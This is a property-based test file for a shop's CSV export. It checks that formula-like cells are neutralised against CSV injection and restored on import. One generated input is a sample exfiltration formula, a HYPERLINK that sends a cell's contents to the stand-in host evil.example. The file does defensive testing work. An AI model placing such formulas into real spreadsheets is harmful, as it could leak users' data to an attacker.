import { fc, test } from '@fast-check/vitest';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { describe, expect, it } from 'vitest';
import {
  neutraliseCsvCell,
  restoreCsvCell,
  SHOP_CSV_OPTIONS,
  startsLikeFormula,
} from '../../../server/domain/csv-cell';

/**
 * Issue 24, item 6: every CSV the shop writes (orders, products, dictionaries) goes through
 * SHOP_CSV_OPTIONS, so a property of those options holds for every CSV cell the shop writes.
 */
const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'] as const;
const formulaLike = fc
  .tuple(fc.constantFrom(...TRIGGERS), fc.string({ maxLength: 30 }))
  .map(([first, rest]) => first + rest);
const text = fc.oneof(
  formulaLike,
  fc.string({ maxLength: 30 }),
  fc.constantFrom('=HYPERLINK("http://evil.example/?"&A1;"Нажми")', '+7 812 555-12-34', '-', "'=1+1", ''),
);
const cell = fc.oneof(
  text,
  fc.integer({ min: -1_000_000_000, max: 1_000_000_000 }),
  fc.double({ noNaN: true, noDefaultInfinity: true, min: -1e9, max: 1e9 }),
);

/** What a spreadsheet reads back from the shop's CSV: every cell as text. */
const readBack = (csv: string): string[][] =>
  parse(csv, { delimiter: ';', bom: true, relax_column_count: true }) as string[][];

describe('CSV cells (OWASP CSV injection)', () => {
  test.prop([fc.array(fc.array(cell, { minLength: 1, maxLength: 6 }), { minLength: 1, maxLength: 8 })])(
    'a text cell that starts with = + - @ TAB or CR comes back with a quote in front; every other cell as it was',
    (records) => {
      const read = readBack(stringify(records, SHOP_CSV_OPTIONS));
      expect(read).toHaveLength(records.length);
      for (const [r, record] of records.entries()) {
        for (const [c, value] of record.entries()) {
          const back = read[r]?.[c];
          if (typeof value === 'number') {
            // Numbers the shop writes (amounts, stock) stay plain numbers, negative ones included.
            expect(back).toBe(String(value));
            // Read back as the same number (−0 is written «0», the same amount).
            expect(Number(back) === value).toBe(true);
          } else if (startsLikeFormula(value.replace(/^'+/, ''))) {
            // Quotes already in front of a formula get one more, so the import can drop exactly one.
            expect(back).toBe(`'${value}`);
          } else {
            expect(back).toBe(value);
          }
          expect(typeof back === 'string' && typeof value === 'string' && startsLikeFormula(back)).toBe(
            false,
          );
        }
      }
    },
  );

  test.prop([text])(
    'the import drops the quote the export put in front: a round trip keeps the value',
    (value) => {
      expect(restoreCsvCell(neutraliseCsvCell(value))).toBe(value);
    },
  );

  test.prop([fc.string({ maxLength: 30 })])('no neutralised cell starts like a formula', (value) => {
    expect(startsLikeFormula(neutraliseCsvCell(value))).toBe(false);
  });

  it('the header row and the BOM are written as before', () => {
    const csv = stringify([{ a: '=1', b: 2 }], { ...SHOP_CSV_OPTIONS, header: true, columns: ['a', 'b'] });
    expect(csv).toBe("\uFEFFa;b\n'=1;2\n");
  });
});
